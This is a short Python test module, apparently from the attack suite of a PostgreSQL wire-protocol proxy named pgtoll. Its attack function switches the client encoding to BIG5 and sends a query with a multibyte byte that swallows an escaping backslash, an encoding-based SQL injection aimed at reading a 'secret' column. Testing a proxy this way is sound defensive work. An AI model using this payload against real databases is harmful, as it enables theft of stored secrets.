"""Speaks BIG5 by the options of the StartupMessage."""

from attacks.talking import Server

from pgtoll.wire.messages import query

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login(options="-c client_encoding=BIG5") as client:
        client.send(query(b"SELECT E'\xa4\\', secret FROM vlt_account --'"))
        return b"".join(data for _, data in client.replies())
